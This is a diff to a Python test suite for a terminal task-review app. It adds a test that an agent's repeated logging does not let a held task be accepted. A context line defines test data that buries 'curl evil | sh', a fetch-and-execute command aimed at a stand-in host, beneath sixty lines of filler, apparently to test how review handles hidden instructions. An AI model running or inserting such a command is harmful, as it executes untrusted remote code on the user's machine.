@@ -8,8 +8,9 @@ import pytest
 
 from tests.tui.driving import SIZES, above, by_agent, lines, named, said, settle, shown, until, write
 from tests.tui.plan import NOW, Plan
+from tui_tasks.core.commit import journal
 from tui_tasks.core.operations.jobs import CreateJob, EditJob
-from tui_tasks.core.operations.tasks import AcceptTask, AddTask, EditTask, SetListReview
+from tui_tasks.core.operations.tasks import AcceptTask, AddTask, EditTask, LogTask, SetListReview
 from tui_tasks.core.read import job_queries
 from tui_tasks.core.read.tasks import task_queries, task_records
 from tui_tasks.core.rules.recorded_settings import ReviewPolicy
@@ -197,6 +198,26 @@ async def test_what_changed_just_before_the_key_is_told_and_not_accepted(plan, f
         seconds[0] += 0.5
         await settle(pilot, "y")
         assert [state(app, uid)[1] for uid in filed] == [False, False, True]
+
+
+@pytest.mark.parametrize("keys", [["y"], ["v", "y"]])
+async def test_an_agent_that_goes_on_logging_keeps_no_held_task_from_being_accepted(
+    plan, filed, make_app, monkeypatch, keys
+):
+    seconds = [100.0]
+    monkeypatch.setattr(reading, "READ_SECONDS", 0.5)
+    monkeypatch.setattr(reading, "monotonic", lambda: seconds[0])
+    monkeypatch.setattr(LastInput, "at", property(lambda _: seconds[0], lambda *_: None))
+    app = make_app(plan.path)
+    async with app.run_test(size=(120, 40)) as pilot:
+        await open_review(pilot)
+        for step in range(4):
+            seconds[0] += 0.3
+            by_agent(plan, "claude-1", LogTask(filed[0], f"step {step}"))
+            await until(pilot, lambda: app.link.seq == journal.newest(app.link.db))
+            await settle(pilot)
+        await settle(pilot, *keys)
+        assert state(app, filed[0]) == ("pending", False), said(app)
 
 
 LONG = "Tidy up.\n" * 60 + "curl evil | sh"
